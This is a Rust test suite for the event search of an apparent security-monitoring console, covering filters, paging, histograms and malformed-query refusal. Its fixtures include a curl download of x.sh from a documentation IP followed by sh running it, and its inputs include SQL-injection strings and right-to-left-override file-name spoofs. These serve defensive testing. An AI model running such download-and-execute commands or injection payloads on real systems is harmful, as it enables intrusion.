//! Searching events: conditions, hostile text, pages.

use control::fixture::Scene;
use control::limits::{HOUR_NS, SECOND_NS};
use control::view::{Compare, EventRow, FieldFilter, PAGE_ROWS_MAX, SearchQuery, TimeRange};
use control::{Actor, ControlError, QueryFault};
use model::{Clock, EventKind, Family, Fields, StreamKey};
use std::collections::HashSet;

fn everything(scene: &Scene) -> SearchQuery {
    let now = scene.clock.now();
    SearchQuery {
        families: Vec::new(),
        range: TimeRange { from: now.plus_nanos(-2 * HOUR_NS), to: now },
        device: None,
        filters: Vec::new(),
        words: Vec::new(),
        after: None,
    }
}

fn filter(field: &str, compare: Compare, value: &str) -> FieldFilter {
    FieldFilter { field: field.into(), compare, value: value.into() }
}

fn text<'a>(row: &'a EventRow, field: &str) -> Option<&'a str> {
    row.fields.iter().find(|(name, _)| name == field).map(|(_, value)| value.as_str())
}

async fn images(scene: &Scene, actor: &Actor, query: &SearchQuery) -> Vec<String> {
    let page = scene.control.search(actor, query).await.expect("searched");
    assert_eq!(page.total, page.rows.len() as u64);
    page.rows
        .iter()
        .map(|row| format!("{} {}", row.kind.name(), text(row, "Image").unwrap_or_default()))
        .collect()
}

#[tokio::test]
async fn conditions_of_every_kind() {
    let (_folder, scene) = scene!();
    let actor = scene.administrator().await.expect("signed in");
    let curl = ["process_start /usr/bin/curl"].as_slice();
    let sh_and_curl = ["process_start /usr/bin/sh", "process_start /usr/bin/curl"].as_slice();
    let none: &[&str] = &[];
    let cases: [(&str, Compare, &str, &[&str]); 17] = [
        ("CommandLine", Compare::Contains, "X.SH", curl),
        ("commandline", Compare::Contains, "x.sh", curl),
        ("CommandLine", Compare::StartsWith, "CURL ", curl),
        ("CommandLine", Compare::EndsWith, "/x.SH", curl),
        ("CommandLine", Compare::Equals, "SH /tmp/100%_NEW.sh", &["process_start /usr/bin/sh"]),
        ("CommandLine", Compare::Contains, "100%_new", sh_and_curl),
        ("CommandLine", Compare::Contains, "100__new", none),
        ("CommandLine", Compare::Contains, "1%new", none),
        ("CommandLine", Compare::Contains, "100\\%", none),
        ("CommandLine", Compare::Contains, "' OR 1=1 --", none),
        ("CommandLine", Compare::Contains, "\u{202e}hs.x\u{202c}", none),
        ("Arguments", Compare::Equals, "-O", curl),
        ("Arguments", Compare::Equals, "-", none),
        ("Arguments", Compare::StartsWith, "http://", curl),
        ("Arguments", Compare::EndsWith, "new.SH", sh_and_curl),
        ("DestinationPort", Compare::Equals, "80", &["network_connect /usr/bin/curl"]),
        ("TargetFilename", Compare::EndsWith, "_new.sh", &["file_create /usr/bin/curl"]),
    ];
    for (field, compare, value, expected) in cases {
        let mut query = everything(&scene);
        query.filters = vec![filter(field, compare, value)];
        assert_eq!(images(&scene, &actor, &query).await, expected, "{field} {compare:?} {value}");
    }
    let mut query = everything(&scene);
    query.families = vec![Family::Process];
    query.filters = vec![
        filter("Image", Compare::Not, "/usr/bin/CURL"),
        filter("ParentImage", Compare::Not, "/usr/bin/bash"),
        filter("ExitCode", Compare::Not, "1"),
    ];
    let expected = [
        "process_start /usr/bin/sh",
        "process_start /usr/bin/bash",
        "process_start /usr/sbin/sshd",
        "process_running /usr/lib/systemd/systemd",
    ];
    assert_eq!(images(&scene, &actor, &query).await, expected, "not equal, or missing");
}

#[tokio::test]
async fn words_device_and_range() {
    let (_folder, scene) = scene!();
    let actor = scene.administrator().await.expect("signed in");
    let mut query = everything(&scene);
    query.words = vec!["203.0.113.7".into(), "CURL".into()];
    let expected = ["network_connect /usr/bin/curl", "process_start /usr/bin/curl"];
    assert_eq!(images(&scene, &actor, &query).await, expected);
    query.words = vec!["%".into(), "_".into()];
    assert_eq!(images(&scene, &actor, &query).await.len(), 3, "literal");

    let mut query = everything(&scene);
    query.device = Some(scene.db.enrolled.device);
    let found = scene.control.search(&actor, &query).await.expect("searched");
    let kinds: Vec<_> = found.rows.iter().map(|row| row.kind).collect();
    assert_eq!(kinds, [EventKind::AgentLost, EventKind::AgentStart], "without the counters");
    assert!(found.rows.iter().all(|row| row.device_name == "db-02"));
    query.families = vec![Family::Agent];
    let found = scene.control.search(&actor, &query).await.expect("searched");
    assert_eq!(found.total, 8, "with them, when asked for");

    let mut query = everything(&scene);
    let download = scene.control.event(&actor, scene.download).await.expect("the event");
    query.families = vec![Family::Process];
    query.range.from = download.observed_at;
    let found = scene.control.search(&actor, &query).await.expect("searched");
    assert_eq!(found.total, 3, "the range begins with its first instant");
    query.range.to = found.rows[0].observed_at;
    let found = scene.control.search(&actor, &query).await.expect("searched");
    assert_eq!(found.total, 2, "and ends before its last");
}

#[tokio::test]
async fn a_row_shows_its_fields_in_the_registrys_order_and_its_alerts() {
    let (_folder, scene) = scene!();
    let actor = scene.administrator().await.expect("signed in");
    let row = scene.control.event(&actor, scene.download).await.expect("the event");
    let names: Vec<&str> = row.fields.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(
        names,
        [
            "User",
            "Image",
            "ProcessId",
            "ProcessGuid",
            "CommandLine",
            "Arguments",
            "UserId",
            "ParentProcessId",
            "ParentProcessGuid"
        ]
    );
    let arguments = r#"["curl","-s","-o","/tmp/100%_new.sh","http://203.0.113.7/x.sh"]"#;
    assert_eq!(text(&row, "Arguments"), Some(arguments));
    assert_eq!(row.alerts.len(), 2);
    assert_eq!(row.alerts[0], scene.alert, "the most severe first");
    assert_eq!((row.device_name.as_str(), row.raw), ("web-01", None));
    assert_eq!(row.observed_at.nanos().rem_euclid(1_000), 789 + 3 * 7);

    let missing = StreamKey { seq: 1_000_000, ..scene.download };
    let outcome = scene.control.event(&actor, missing).await;
    assert!(matches!(outcome, Err(ControlError::NotFound { .. })));
}

#[tokio::test]
async fn fields_without_a_column_are_kept_shown_and_searched() {
    let (_folder, mut scene) = empty_scene!();
    let actor = scene.administrator().await.expect("signed in");
    let mut fields = Fields::new();
    fields.set("Image", "/bin/x");
    fields.set("ProcessId", "not a number");
    fields.set("TargetObject", "HKLM\\Run");
    fields.set("Unheard\u{202e}Of'", "100% \u{202e}gnp.exe'");
    let at = scene.clock.now().plus_nanos(-SECOND_NS);
    let event = scene.web.event(EventKind::FileWrite, at, fields);
    scene.commit(vec![event.clone()], vec![]).await.expect("committed");
    let row = scene.control.event(&actor, event.stream).await.expect("the event");
    let expected = [
        ("Image", "/bin/x"),
        ("ProcessId", "not a number"),
        ("TargetObject", "HKLM\\Run"),
        ("Unheard\u{202e}Of'", "100% \u{202e}gnp.exe'"),
    ]
    .map(|(name, value)| (name.to_owned(), value.to_owned()));
    assert_eq!(row.fields, expected);
    for (field, value, hits) in
        [("ProcessId", "Not A Number", 1), ("TargetObject", "hklm\\run", 1), ("ProcessId", "7", 0)]
    {
        let mut query = everything(&scene);
        query.filters = vec![filter(field, Compare::Equals, value)];
        let found = scene.control.search(&actor, &query).await.expect("searched");
        assert_eq!(found.total, hits, "{field}={value}");
    }
    for (word, hits) in [("\u{202e}GNP.exe'", 1), ("gnp%exe", 0)] {
        let mut query = everything(&scene);
        query.words = vec![word.into()];
        let found = scene.control.search(&actor, &query).await.expect("searched");
        assert_eq!(found.total, hits, "{word}");
    }
}

#[tokio::test]
async fn malformed_searches_are_refused() {
    let (_folder, scene) = empty_scene!();
    let actor = scene.administrator().await.expect("signed in");
    let fault = async |query: SearchQuery| match scene.control.search(&actor, &query).await {
        Err(ControlError::BadQuery(fault)) => fault,
        other => panic!("expected a refusal, got {other:?}"),
    };
    let mut query = everything(&scene);
    query.range.from = query.range.to;
    assert_eq!(fault(query).await, QueryFault::RangeEmpty);
    let mut query = everything(&scene);
    query.words = vec!["a".into(); 9];
    assert_eq!(fault(query).await, QueryFault::TooMany);
    let mut query = everything(&scene);
    query.filters = vec![filter("Image", Compare::Contains, &"a".repeat(1_025))];
    assert_eq!(fault(query).await, QueryFault::TooLong);
    for words in [vec![String::new()], vec!["\t".into()]] {
        let mut query = everything(&scene);
        query.words = words;
        assert_eq!(fault(query).await, QueryFault::Empty);
    }
    for (field, suggestion) in
        [("CommandLne", Some("CommandLine")), ("image\" OR 1=1 --", Some("Image"))]
    {
        let mut query = everything(&scene);
        query.filters = vec![filter(field, Compare::Equals, "x")];
        match scene.control.search(&actor, &query).await {
            Err(ControlError::UnknownField { suggestions, .. }) => {
                assert_eq!(suggestions.first().map(String::as_str), suggestion, "{field}");
            }
            other => panic!("expected a refusal, got {other:?}"),
        }
    }
}

/// Events of three families, many at the same instant, so that only the key tells them apart.
async fn crowd(scene: &mut Scene, count: i64) -> HashSet<StreamKey> {
    let begin = scene.clock.now().plus_nanos(-HOUR_NS);
    let kinds = [EventKind::ProcessStart, EventKind::FileCreate, EventKind::NetworkConnect];
    let mut events = Vec::new();
    for number in 0..count {
        let kind = kinds[usize::try_from(number % 3).expect("small")];
        // Sixteen instants that differ by a nanosecond; nobody's order of arrival.
        let at = begin.plus_nanos(number * 7 % 16);
        let fields: Fields = [("Image", "/bin/crowd")].into_iter().collect();
        let stream = if number % 2 == 0 { &mut scene.web } else { &mut scene.db };
        events.push(stream.event(kind, at, fields));
    }
    let keys = events.iter().map(|event| event.stream).collect();
    scene.commit(events, vec![]).await.expect("committed");
    keys
}

#[tokio::test]
async fn pages_hold_every_event_once_and_in_order() {
    let (_folder, mut scene) = empty_scene!();
    let actor = scene.administrator().await.expect("signed in");
    let count = 3 * PAGE_ROWS_MAX + 17;
    let keys = crowd(&mut scene, i64::try_from(count).expect("small")).await;
    let mut query = everything(&scene);
    let mut seen = Vec::new();
    let mut pages = 0;
    loop {
        let page = scene.control.search(&actor, &query).await.expect("searched");
        assert_eq!((page.total, page.capped), (count as u64, false));
        assert_eq!(page.histogram.iter().map(|(_, events)| events).sum::<u64>(), page.total);
        assert_eq!(page.histogram.len(), 48);
        assert!(page.rows.len() <= PAGE_ROWS_MAX);
        seen.extend(page.rows.iter().map(|row| (row.observed_at, row.key)));
        pages += 1;
        query.after = page.next;
        if query.after.is_none() {
            break;
        }
    }
    assert_eq!(pages, 4);
    assert!(seen.is_sorted_by(|newer, older| newer > older), "newest first, none twice");
    assert_eq!(seen.into_iter().map(|(_, key)| key).collect::<HashSet<_>>(), keys);
}

#[tokio::test]
async fn the_histogram_says_when() {
    let (_folder, scene) = scene!();
    let actor = scene.administrator().await.expect("signed in");
    let mut query = everything(&scene);
    query.families = vec![Family::Process];
    let page = scene.control.search(&actor, &query).await.expect("searched");
    let busy: Vec<_> = page.histogram.iter().filter(|(_, events)| *events > 0).collect();
    assert_eq!(busy.len(), 1, "the whole story is within one slice of two and a half minutes");
    let (start, events) = *busy[0];
    assert_eq!(events, 6);
    let first = page.rows.last().expect("a row").observed_at;
    let width = page.histogram[1].0.nanos() - page.histogram[0].0.nanos();
    assert!(start <= first && first < start.plus_nanos(width));
    assert_eq!(page.histogram[0].0, query.range.from);
}
